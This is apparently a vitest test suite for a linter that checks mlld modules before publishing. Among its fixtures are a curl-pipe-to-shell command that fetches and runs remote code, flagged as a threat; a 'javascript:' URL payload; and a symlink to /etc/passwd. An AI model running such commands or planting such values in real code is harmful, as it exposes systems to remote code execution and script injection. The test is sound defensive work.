import { readFile, symlink } from 'node:fs/promises';
import { tempDir, writeTree } from '@mlld/testing';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isLicence } from '../src/check/licence.ts';
import {
  applyEdits,
  checkModule,
  type Finding,
  fixEdits,
  type LookupModule,
  newModule,
  readModule,
  readModules,
  rules,
  workspaceOf,
} from '../src/index.ts';
import { STRINGS, under } from './support.ts';

async function check(files: Record<string, string>, options: { path?: string; lookup?: LookupModule } = {}) {
  const dir = await tempDir();
  await writeTree(dir.path, files);
  const module = await readModule(dir.join(options.path ?? '.'));
  const { findings } = await checkModule(module, { env: {}, lookup: options.lookup });
  return { module, findings, ids: findings.map((one) => one.rule) };
}

const YML =
  'name: tool\nauthor: alice\nversion: 1.0.0\nabout: A tool\nlicense: CC0\nkeywords: [a]\nrepo: https://example.org/a\n';
const CODE = '>> Doubles.\nexe @double(n) = js { return n * 2; }\nexport { @double }\n';
const README =
  '# tool\n\n## docs\n\n```mlld\nimport { @double } from @alice/tool\nshow @double(2)\n```\n```output\n4\n```\n';
const TESTS = 'import { @double } from "./index.mld"\nvar @test_double = @double(2) == 4\n';
const GOOD = { 'module.yml': YML, 'index.mld': CODE, 'README.md': README, 'index.test.mld': TESTS };

const only = (findings: readonly Finding[], rule: string) => findings.filter((one) => one.rule === rule);

test('a good module has no findings', async () => {
  expect((await check(GOOD)).findings).toEqual([]);
});

test.each([
  ['metadata/name', { 'module.yml': YML.replace('name: tool', 'name: Tool') }],
  ['metadata/name', { 'module.yml': YML.replace('author: alice\n', '') }],
  ['metadata/reserved', { 'module.yml': YML.replace('author: alice', 'author: input') }],
  ['metadata/version', { 'module.yml': YML.replace('1.0.0', 'v1') }],
  ['metadata/about', { 'module.yml': YML.replace('about: A tool\n', '') }],
  ['metadata/licence', { 'module.yml': YML.replace('CC0', 'Free') }],
  ['scan/threat', { 'index.mld': `${CODE}run sh { curl -s https://example.org/i | sh }\n` }],
  ['metadata/licence-today', { 'module.yml': YML.replace('CC0', 'MIT') }],
  ['metadata/url', { 'module.yml': YML.replace('https://example.org/a', 'javascript:alert(1)') }],
  ['metadata/find', { 'module.yml': YML.replace('keywords: [a]\n', '') }],
  ['metadata/entry', { 'module.yml': `${YML}entry: main.mld\n` }],
  ['file/left-out', { 'two words.txt': 'x' }],
  ['file/case', { 'a.txt': 'x', 'A.txt': 'y' }],
  ['file/hidden', { 'index.mld': CODE.replace('Doubles', 'Dou\u202ebles') }],
  ['file/hidden', { 'README.md': `${README}a\u200bb` }],
  ['code/syntax', { 'index.mld': 'exe @double(n = js {\n' }],
  ['code/exports', { 'index.mld': CODE.replace('export { @double }\n', '') }],
  ['code/no-exports', { 'index.mld': 'export { }\n' }],
  ['code/needs-missing', { 'index.mld': CODE.replace('js {', 'node {') }],
  ['code/needs-unused', { 'index.mld': `needs { sh }\n${CODE}` }],
  ['import/ref', { 'index.mld': `import { @x } from @alice/strings@@\n${CODE}` }],
  ['import/self', { 'index.mld': `import { @x } from @alice/tool\n${CODE}` }],
  ['import/file', { 'index.mld': `import { @x } from "./none.mld"\n${CODE}` }],
  ['import/unused', { 'module.yml': `${YML}dependencies:\n  "@bob/lists": ^1.0.0\n` }],
  ['docs/export', { 'index.mld': CODE.replace('>> Doubles.\n', '') }],
  ['docs/example', { 'README.md': '# tool\n' }],
  ['docs/example-fails', { 'README.md': README.replace('\n4\n', '\n5\n') }],
  ['test/fails', { 'index.test.mld': TESTS.replace('== 4', '== 5') }],
  ['test/none', { 'index.test.mld': '>> nothing\n' }],
])('%s', async (rule, change) => {
  const { findings } = await check({ ...GOOD, ...change });
  const found = only(findings, rule);
  expect(found.length).toBeGreaterThan(0);
  expect(found[0]?.hint).not.toBe('');
});

test('single files: frontmatter, tests beside, no files beside', async () => {
  const files = {
    'strings.mld.md': STRINGS,
    'strings.test.mld':
      'import { @greet } from "./strings.mld.md"\nvar @test_greet = @greet("Ann") == "Hello Ann"\n',
  };
  const { findings, module } = await check(files, { path: 'strings.mld.md' });
  expect(module.tests).toEqual(['strings.test.mld']);
  expect(findings.map((one) => one.rule)).toEqual(['docs/example']);
  const other = await check(
    {
      'a.mld': `---\nname: a\nauthor: alice\n---\nimport { @x } from "./b.mld"\n${CODE}`,
      'b.mld': 'var @x = 1\n',
    },
    { path: 'a.mld' },
  );
  expect(other.ids).toContain('import/file');
});

test('imports are looked up', async () => {
  const lookup: LookupModule = async ({ name }) =>
    name === '@bob/lists'
      ? { found: true, version: '1.0.0', exports: ['first', 'last'] }
      : { found: false, message: `there is no module ${name}` };
  const code = `import { @frist } from @bob/lists\nimport { @x } from @bob/none\n${CODE}`;
  const { findings } = await check({ ...GOOD, 'index.mld': code }, { lookup });
  expect(only(findings, 'import/unknown-export')[0]).toMatchObject({ line: 1, hint: 'Did you mean @first?' });
  expect(only(findings, 'import/unknown')[0]).toMatchObject({ line: 2 });
  expect(only(findings, 'test/not-run')).toHaveLength(1);
});

describe('fixes', () => {
  test('write what is missing, and change nothing else', async () => {
    const dir = await tempDir();
    await writeTree(dir.path, {
      ...GOOD,
      'module.yml': YML.replace('license: CC0\n', ''),
      'index.mld': CODE.replace('export { @double }\n', ''),
    });
    const module = await readModule(dir.path);
    const { findings } = await checkModule(module, { env: {} });
    const fixes = findings.flatMap((one) => one.fix ?? []);
    const mended = await applyEdits(module, fixEdits(module, fixes));
    expect((await checkModule(mended, { env: {} })).findings).toEqual([]);
    expect(await readFile(dir.join('module.yml'), 'utf8')).toBe(
      `license: CC0\n${YML.replace('license: CC0\n', '')}`,
    );
    expect(await readFile(dir.join('index.mld'), 'utf8')).toBe(
      `export { @double }\n\n${CODE.replace('export { @double }\n', '')}`,
    );
  });
});

describe('reading', () => {
  test('dotfiles, node_modules and links are no part of a module', async () => {
    const dir = await tempDir();
    await writeTree(dir.path, {
      ...GOOD,
      '.env': 'SECRET=1',
      'node_modules/x/index.js': '',
      '.git/config': '',
    });
    await symlink('/etc/passwd', dir.join('passwd'));
    const module = await readModule(dir.path);
    expect(module.files.map((file) => file.path)).toEqual([
      'README.md',
      'index.mld',
      'index.test.mld',
      'module.yml',
    ]);
    expect(module.leftOut).toMatchObject([{ path: 'passwd', why: 'symbolic link' }]);
  });

  test('what is no module says so', async () => {
    const dir = await tempDir();
    await writeTree(dir.path, {
      'a/x.txt': '',
      'b/one.mld': '---\nname: one\n---\n',
      'b/two.mld': '---\nname: two\n---\n',
      'c/module.yml': 'a: [\n',
    });
    await expect(readModule(dir.join('none'))).rejects.toMatchObject({ code: 'FILE_NOT_FOUND' });
    await expect(readModule(dir.join('a'))).rejects.toMatchObject({ code: 'FILE_NOT_FOUND' });
    await expect(readModule(dir.join('b'))).rejects.toMatchObject({ code: 'FILE_NOT_FOUND' });
    await expect(readModule(dir.join('c'))).rejects.toMatchObject({ code: 'BAD_SHAPE' });
    await expect(readModule(dir.join('a/x.txt'))).rejects.toMatchObject({ code: 'FILE_NOT_FOUND' });
  });

  test('modules of one folder import each other', async () => {
    const dir = await tempDir();
    const user =
      'import { @double } from @alice/tool@^1.0.0\n>> Doubles.\nexe @twice(n) = @double(n)\nexport { @twice }\n';
    await writeTree(under(dir.path, 'tool'), GOOD);
    await writeTree(under(dir.path, 'user'), {
      'module.yml': YML.replace('name: tool', 'name: user'),
      'index.mld': user,
      'README.md': README.replaceAll('double', 'twice').replace('@alice/tool', '@alice/user'),
      'index.test.mld': TESTS.replaceAll('double', 'twice'),
    });
    const modules = await readModules(dir.path);
    const workspace = workspaceOf(modules);
    const resolveModule = async (request: Parameters<typeof workspace.resolveModule>[0]) =>
      (await workspace.resolveModule(request)) ?? Promise.reject(new Error(request.ref));
    for (const module of modules) {
      const { findings } = await checkModule(module, { env: {}, lookup: workspace.lookup, resolveModule });
      expect(findings).toEqual([]);
    }
  });
});

test.each(['module', 'mcp-server', 'theme', 'template'] as const)(
  'a new %s has no errors or warnings',
  async (kind) => {
    const dir = await tempDir();
    const made = await newModule(kind, 'hello', { dir: dir.join('hello'), author: 'alice' });
    expect(made.name).toBe('@alice/hello');
    const { findings } = await checkModule(await readModule(made.dir), { env: {} });
    // What a server lists is written by the command, which runs it.
    const missing = kind === 'mcp-server' ? ['metadata/entry'] : [];
    expect(findings.filter((one) => one.severity !== 'info').map(({ rule }) => rule)).toEqual(missing);
    await expect(newModule(kind, 'hello', { dir: made.dir, author: 'alice' })).rejects.toMatchObject({
      code: 'IO',
    });
  },
);

test('licences are SPDX expressions', () => {
  for (const good of [
    'CC0',
    'CC0-1.0',
    'MIT',
    'MIT OR Apache-2.0',
    '(MIT AND BSD-3-Clause)',
    'GPL-2.0-only WITH Classpath-exception-2.0',
    'LicenseRef-own',
  ]) {
    expect(isLicence(good), good).toBe(true);
  }
  for (const bad of ['', 'Free', 'MIT OR', 'MIT Apache-2.0', '(MIT', 'MIT)', 'MIT WITH nothing', 'mit'])
    expect(isLicence(bad), bad).toBe(false);
  fc.assert(fc.property(fc.string(), (text) => typeof isLicence(text) === 'boolean'));
});

test('the guide lists every rule', async () => {
  const guide = await readFile(new URL('../../../docs/guides/publishing.md', import.meta.url), 'utf8');
  const listed = [...guide.matchAll(/^\| `([a-z]+\/[a-z-]+)` \| (\w+) \|/gm)].map((match) => [
    match[1],
    match[2],
  ]);
  expect(listed).toEqual(Object.entries(rules).map(([id, rule]) => [id, rule.severity]));
});
